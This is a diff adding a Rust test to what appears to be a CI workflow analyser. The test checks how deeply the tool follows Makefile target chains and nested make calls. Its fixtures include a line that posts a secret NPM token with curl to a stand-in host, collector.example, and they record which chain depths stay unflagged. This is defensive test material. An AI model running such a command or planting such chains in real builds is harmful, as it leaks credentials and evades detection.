@@ -302,3 +302,29 @@ fn other_spellings_of_a_path_and_many_names_of_a_host() {
         is_analysed(&format!("{HANDED}{}", calls(&format!("|\n          {send}"))), &[]);
     }
 }
+
+/// The targets that one call of `make` leads to, and tools that run each other.
+#[test]
+fn what_a_makefile_leads_to() {
+    let makefile = |targets: usize| {
+        let chain: String = (1..targets).map(|at| format!("t{at}: t{}\n", at + 1)).collect();
+        format!("{chain}t{targets}:\n\tcurl -d \"$$TOKEN\" https://collector.example/\n")
+    };
+    let workflow = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env: {TOKEN: '${{ secrets.NPM_TOKEN }}'}\n    steps:\n      - run: make\n";
+    is_analysed(workflow, &[("Makefile", makefile(256).as_bytes())]);
+    is_not_hidden(workflow, &[("Makefile", makefile(257).as_bytes())]);
+    let nested = |depth: usize| -> Vec<(String, String)> {
+        let call = |at: usize| format!("all:\n\tmake -f {}.mk\n", at + 1);
+        let mut files: Vec<_> = (0..depth).map(|at| (format!("{at}.mk"), call(at))).collect();
+        let last = "all:\n\tcurl -d \"$$TOKEN\" https://collector.example/\n";
+        files.push((format!("{depth}.mk"), last.to_owned()));
+        files
+    };
+    let workflow = workflow.replace("run: make", "run: make -f 0.mk");
+    for (depth, is_followed) in [(2, true), (40, false)] {
+        let files = nested(depth);
+        let files: Vec<(&str, &[u8])> =
+            files.iter().map(|(path, text)| (path.as_str(), text.as_bytes())).collect();
+        if is_followed { is_analysed(&workflow, &files) } else { is_not_hidden(&workflow, &files) }
+    }
+}
